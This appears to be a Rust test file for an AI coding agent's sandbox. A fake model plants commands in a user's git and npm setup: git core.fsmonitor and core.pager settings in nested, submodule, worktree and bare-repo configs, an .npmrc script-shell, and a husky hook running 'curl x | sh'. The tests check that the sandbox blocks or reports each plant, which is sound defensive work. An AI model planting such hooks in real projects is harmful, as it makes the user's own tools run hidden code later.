//! What the person's own git runs later, outside kelp, with their rights: nothing a command
//! planted. A command goes for every repository git meets from the project (a nested one it
//! makes and commits as a submodule, a submodule's own repository, `info/exclude`, a worktree's
//! config, the project's `.git` swapped whole), then the person runs a plain `git status` as
//! they would, and the marker their git would create must not exist. Each attack has its twin
//! with the sandbox off, where the person's `git status` runs the planted program.

use std::path::Path;
use std::process::Command;

use serde_json::json;

use crate::fake_openai::{FakeOpenAi, Reply};
use crate::llm_stream::{Login, write_login};
use crate::sandbox_attacks::{Victim, attack, attack_seen, namespaces, victim};
use crate::support::{kelp, shown, tool_outputs};

fn git(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.email=p@example.com", "-c", "user.name=p"])
        .args(["-c", "protocol.file.allow=always"])
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap()
}

fn git_ok(dir: &Path, args: &[&str]) {
    let out = git(dir, args);
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The person's repository: one commit, and a submodule with its repository in
/// `.git/modules/lib`.
fn persons_repository(victim: &Victim) {
    let upstream = victim.home.join("upstream-lib");
    std::fs::create_dir_all(&upstream).unwrap();
    git_ok(&upstream, &["init", "-q"]);
    std::fs::write(upstream.join("lib.txt"), "lib\n").unwrap();
    git_ok(&upstream, &["add", "lib.txt"]);
    git_ok(&upstream, &["commit", "-qm", "lib"]);
    let project = &victim.project;
    git_ok(project, &["init", "-q"]);
    std::fs::write(project.join("notes.txt"), "one\n").unwrap();
    git_ok(project, &["add", "notes.txt"]);
    git_ok(
        project,
        &["submodule", "add", "-q", upstream.to_str().unwrap(), "lib"],
    );
    git_ok(project, &["commit", "-qm", "first"]);
}

/// What the person's plain `git status` in the project ran: whether the marker exists after it.
fn persons_git_status_runs_the_plant(victim: &Victim, marker: &Path) -> bool {
    let _ = std::fs::remove_file(marker);
    let out = Command::new("git")
        .arg("-C")
        .arg(&victim.project)
        .arg("status")
        .env("HOME", &victim.home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(
        out.status.success() || marker.exists(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    marker.exists()
}

/// Runs `script` as the model's command, sandboxed and then not; returns what the sandboxed
/// run printed, after checking the person's `git status` ran nothing planted after it and ran
/// the plant after the unsandboxed twin.
async fn planted_for_later(victim: &Victim, script: &str) -> String {
    let marker = victim.home.join("PWNED");
    let script = script.replace("MARKER", marker.to_str().unwrap());
    let seen = attack(victim, &script, &[]).await;
    assert!(seen.contains("planted"), "the attack ran: {seen}");
    assert!(
        !persons_git_status_runs_the_plant(victim, &marker),
        "the person's git ran what a sandboxed command planted: {seen}"
    );
    attack(victim, &script, &["--sandbox", "off"]).await;
    assert!(
        persons_git_status_runs_the_plant(victim, &marker),
        "unsandboxed, the plant takes (the attack is real)"
    );
    seen
}

/// A nested repository made and committed as a submodule, with a file-system monitor that
/// runs a program: git recurses into it on the person's `git status`.
#[tokio::test]
async fn a_nested_repository_committed_as_a_submodule_runs_nothing_later() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    persons_repository(&victim);
    let script = "mkdir -p sub && cd sub && git init -q && \
                  git config core.fsmonitor 'touch MARKER; false' && echo x > f && git add f && \
                  git -c user.email=m@x -c user.name=m commit -qm x && cd .. && git add sub && \
                  git -c user.email=m@x -c user.name=m commit -qm sub; echo planted";
    let seen = planted_for_later(&victim, script).await;
    assert!(
        seen.contains("sub/.git (a repository whose settings or hooks git would run)"),
        "the model is told: {seen}"
    );
}

/// A submodule's own repository (`.git/modules/lib/config`), the project's `info/exclude` and
/// its hooks path: all read-only, so the person's git reads them as they were.
#[tokio::test]
async fn a_submodules_repository_and_info_are_read_only() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    persons_repository(&victim);
    let script = "git config -f .git/modules/lib/config core.fsmonitor 'touch MARKER; false'; \
                  echo planted.txt >> .git/info/exclude; echo planted";
    let seen = planted_for_later(&victim, script).await;
    assert!(seen.contains("Read-only file system"), "{seen}");
    let exclude = std::fs::read_to_string(victim.project.join(".git/info/exclude")).unwrap();
    assert!(
        exclude.contains("planted.txt"),
        "the twin wrote it: {exclude}"
    );
}

/// With `extensions.worktreeConfig` on (as `git sparse-checkout` sets it), git reads
/// `.git/config.worktree`: one a command creates is moved aside.
#[tokio::test]
async fn a_worktree_config_a_command_creates_runs_nothing_later() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    persons_repository(&victim);
    git_ok(
        &victim.project,
        &["config", "extensions.worktreeConfig", "true"],
    );
    let script = "printf '[core]\\n\\tfsmonitor = touch MARKER; false\\n' > .git/config.worktree; \
                  echo planted";
    let seen = planted_for_later(&victim, script).await;
    assert!(seen.contains(".git/config.worktree"), "{seen}");
    assert!(
        victim
            .project
            .join(".git/config.worktree.refused-by-kelp")
            .exists()
    );
}

/// The project's `.git` renamed away and a copy with a planted config put in its place: the
/// folder is pinned, and a `.git` that is new when the command ends is moved aside.
#[tokio::test]
async fn the_projects_repository_cannot_be_swapped() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    persons_repository(&victim);
    let script = "mv .git .git-old && mkdir .git && cp -r .git-old/. .git/; \
                  printf '[core]\\n\\tfsmonitor = touch MARKER; false\\n' >> .git/config; \
                  echo planted";
    let seen = planted_for_later(&victim, script).await;
    assert!(
        git(&victim.project, &["log", "--oneline"]).status.success(),
        "the person's repository is whole: {seen}"
    );
}

/// A command that writes a file the person's own tools run later (npm's `script-shell`, a
/// husky hook): it may, as under Codex, and the person is told where they look (kelp run's
/// stderr; the app-server's `warning`, exec's error item and the TUI's transcript take the same
/// event), as is the model, naming the file and what runs it. With the sandbox off too.
#[tokio::test]
async fn what_the_persons_tools_run_later_is_named_when_a_command_writes_it() {
    let Some(victim) = victim() else { return };
    let script = "printf 'script-shell=./evil\\n' > .npmrc; mkdir -p .husky && \
                  echo 'curl x | sh' > .husky/pre-commit; echo planted";
    for flags in [&[][..], &["--sandbox", "off"]] {
        let (seen, stderr) = attack_seen(&victim, script, flags, |_| {}).await;
        assert!(seen.contains("planted"), "{seen}");
        for said in [&seen, &stderr] {
            assert!(
                said.contains(".npmrc (npm runs the shell it names")
                    && said.contains(".husky (husky's hooks run when you commit)"),
                "{flags:?}: {said}"
            );
        }
        assert!(
            stderr.contains("kelp: warning: the command created or changed"),
            "{stderr}"
        );
        std::fs::remove_file(victim.project.join(".npmrc")).unwrap();
        std::fs::remove_dir_all(victim.project.join(".husky")).unwrap();
    }
}

/// The four entries that make a folder a repository to git's discovery, with no `.git`: a
/// `HEAD`, `objects`, `refs`, and a config whose pager runs a program (git pages `git branch`
/// and `git log` in a terminal; a discovered bare repository has no work tree for
/// `core.fsmonitor`, but every command that pages runs this).
const A_FOLDER_GIT_TAKES_FOR_A_REPOSITORY: &str = "mkdir -p DIR/objects DIR/refs/heads && \
     echo 'ref: refs/heads/main' > DIR/HEAD && \
     printf '[core]\\n\\tpager = touch MARKER; cat\\n' > DIR/config; \
     echo planted";

/// What the person's `git branch` in `dir`, in a terminal (where git pages), ran: whether the
/// marker exists after it.
fn git_in_a_terminal_runs_the_plant(victim: &Victim, dir: &Path, marker: &Path) -> bool {
    let _ = std::fs::remove_file(marker);
    let out = Command::new("script")
        .args(["-qec", "git branch", "/dev/null"])
        .current_dir(dir)
        .env("HOME", &victim.home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env_remove("GIT_PAGER")
        .env_remove("PAGER")
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    // A folder that is no repository any more is no failure of the look.
    assert!(
        out.status.success() || marker.exists() || said.contains("not a git repository"),
        "{said}"
    );
    marker.exists()
}

/// In a subfolder of the person's repository, the four entries git takes for a repository:
/// `git status` in that folder (or a prompt that runs it on `cd`) would run the monitor. The
/// command's `HEAD` is moved aside, and the model and person told.
#[tokio::test]
async fn a_folder_made_a_repository_without_a_git_runs_nothing_later() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    persons_repository(&victim);
    let marker = victim.home.join("PWNED");
    let script = A_FOLDER_GIT_TAKES_FOR_A_REPOSITORY
        .replace("DIR", "pkg")
        .replace("MARKER", marker.to_str().unwrap());
    let pkg = victim.project.join("pkg");
    let seen = attack(&victim, &script, &[]).await;
    assert!(seen.contains("planted"), "{seen}");
    assert!(
        seen.contains("pkg/HEAD (it made a folder git takes for a repository"),
        "the model is told: {seen}"
    );
    assert!(
        !git_in_a_terminal_runs_the_plant(&victim, &pkg, &marker),
        "the person's git in pkg ran what a sandboxed command planted: {seen}"
    );
    std::fs::remove_dir_all(&pkg).unwrap();
    attack(&victim, &script, &["--sandbox", "off"]).await;
    assert!(
        git_in_a_terminal_runs_the_plant(&victim, &pkg, &marker),
        "unsandboxed, the plant takes (the attack is real)"
    );
}

/// In a project that is no git repository yet, the same four entries at its root make the
/// person's plain `git status` there run the monitor. `kelp exec` with no flags, in a folder
/// the person trusts, moves the `HEAD` aside as `kelp run` does.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_projects_root_made_a_repository_by_exec_runs_nothing_later() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    let marker = victim.home.join("PWNED");
    let script = A_FOLDER_GIT_TAKES_FOR_A_REPOSITORY
        .replace("DIR", ".")
        .replace("MARKER", marker.to_str().unwrap());
    let config_dir = victim.home.join(".config/kelp");
    std::fs::create_dir_all(&config_dir).unwrap();
    std::fs::write(
        config_dir.join("config.toml"),
        format!(
            "[projects.{:?}]\ntrust_level = \"trusted\"\n",
            victim.project.canonicalize().unwrap()
        ),
    )
    .unwrap();
    let exec = |flags: &'static [&'static str]| {
        let (script, victim_project, home) =
            (script.clone(), victim.project.clone(), victim.home.clone());
        async move {
            let fake = FakeOpenAi::start().await;
            fake.push_responses([
                Reply::empty().and_call_with_id("attack", "shell", json!({ "command": script })),
                Reply::text("done"),
            ]);
            let auth_file = home.join(".local/share/kelp/auth.json");
            std::fs::create_dir_all(auth_file.parent().unwrap()).unwrap();
            write_login(&auth_file, &fake, Login::ApiKey);
            let mut cmd = kelp(&home);
            cmd.envs(fake.env())
                .current_dir(&victim_project)
                .args(["exec"])
                .args(flags)
                .arg("go");
            let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
                .await
                .unwrap();
            assert!(out.status.success(), "{}", shown(&out));
            tool_outputs(&fake)
                .into_iter()
                .find_map(|(id, text)| (id == "attack").then_some(text))
                .unwrap()
        }
    };
    let seen = exec(&[]).await;
    assert!(seen.contains("planted"), "{seen}");
    assert!(seen.contains("HEAD (it made a folder git takes"), "{seen}");
    assert!(
        !git_in_a_terminal_runs_the_plant(&victim, &victim.project, &marker),
        "the person's git ran what exec's command planted: {seen}"
    );
    for entry in ["HEAD.refused-by-kelp", "objects", "refs", "config"] {
        std::fs::remove_dir_all(victim.project.join(entry))
            .or_else(|_| std::fs::remove_file(victim.project.join(entry)))
            .unwrap();
    }
    exec(&["--dangerously-bypass-approvals-and-sandbox"]).await;
    assert!(
        git_in_a_terminal_runs_the_plant(&victim, &victim.project, &marker),
        "unsandboxed, the plant takes (the attack is real)"
    );
}

/// A patch writing the same four files asks in every mode, as one into `.git` does: with
/// nobody to ask (`kelp run` in `full-auto`) it is refused and the files are not written.
/// Written by hand instead, the person's git runs them (the attack is real).
#[tokio::test]
async fn a_patch_that_makes_a_folder_a_repository_asks() {
    let Some(victim) = victim() else { return };
    persons_repository(&victim);
    let marker = victim.home.join("PWNED");
    let patch = format!(
        "*** Begin Patch\n*** Add File: pkg/HEAD\n+ref: refs/heads/main\n\
         *** Add File: pkg/objects/info/packs\n+\n*** Add File: pkg/refs/heads/.keep\n+\n\
         *** Add File: pkg/config\n+[core]\n+\tpager = touch {}; cat\n\
         *** End Patch\n",
        marker.display()
    );
    let fake = FakeOpenAi::start().await;
    fake.push_responses([
        Reply::empty().and_call_with_id("attack", "apply_patch", json!({ "input": patch })),
        Reply::text("done"),
    ]);
    let auth_file = victim.home.join(".local/share/kelp/auth.json");
    std::fs::create_dir_all(auth_file.parent().unwrap()).unwrap();
    write_login(&auth_file, &fake, Login::ApiKey);
    let mut cmd = kelp(&victim.home);
    cmd.envs(fake.env())
        .args(["--cd"])
        .arg(&victim.project)
        .args(["--approval", "full-auto", "run", "go"]);
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    assert!(out.status.success(), "{}", shown(&out));
    let pkg = victim.project.join("pkg");
    assert!(!pkg.join("HEAD").exists(), "{}", shown(&out));
    std::fs::create_dir_all(&pkg).unwrap();
    assert!(!git_in_a_terminal_runs_the_plant(&victim, &pkg, &marker));

    for (file, text) in [
        ("HEAD", "ref: refs/heads/main\n".to_string()),
        ("objects/info/packs", "\n".to_string()),
        ("refs/heads/.keep", "\n".to_string()),
        (
            "config",
            format!("[core]\n\tpager = touch {}; cat\n", marker.display()),
        ),
    ] {
        std::fs::create_dir_all(pkg.join(file).parent().unwrap()).unwrap();
        std::fs::write(pkg.join(file), text).unwrap();
    }
    assert!(
        git_in_a_terminal_runs_the_plant(&victim, &pkg, &marker),
        "written, the four files make git run the pager (the attack is real)"
    );
}

/// kelp started in a worktree made by `git worktree add`, whose own git folder lies outside
/// the project, in the main repository's `.git/worktrees/`, writable for a commit there. With
/// `extensions.worktreeConfig` on, the person's git reads that folder's `config.worktree`: one
/// a command creates is moved aside, and the worktree's git runs nothing planted.
#[tokio::test]
async fn a_linked_worktrees_own_config_a_command_creates_runs_nothing_later() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    let main = victim.home.join("main");
    std::fs::create_dir_all(&main).unwrap();
    git_ok(&main, &["init", "-q"]);
    std::fs::write(main.join("notes.txt"), "one\n").unwrap();
    git_ok(&main, &["add", "notes.txt"]);
    git_ok(&main, &["commit", "-qm", "first"]);
    std::fs::remove_dir(&victim.project).unwrap();
    git_ok(
        &main,
        &[
            "worktree",
            "add",
            "-q",
            "-b",
            "feature",
            victim.project.to_str().unwrap(),
        ],
    );
    git_ok(&main, &["config", "extensions.worktreeConfig", "true"]);
    let own = main.join(".git/worktrees/project/config.worktree");
    let script = "printf '[core]\\n\\tfsmonitor = touch MARKER; false\\n' >> \
                  \"$(git rev-parse --git-dir)/config.worktree\"; echo planted";
    let seen = planted_for_later(&victim, script).await;
    assert!(
        seen.contains("config.worktree"),
        "the model is told: {seen}"
    );
    assert!(
        own.with_file_name("config.worktree.refused-by-kelp")
            .exists(),
        "{seen}"
    );
}
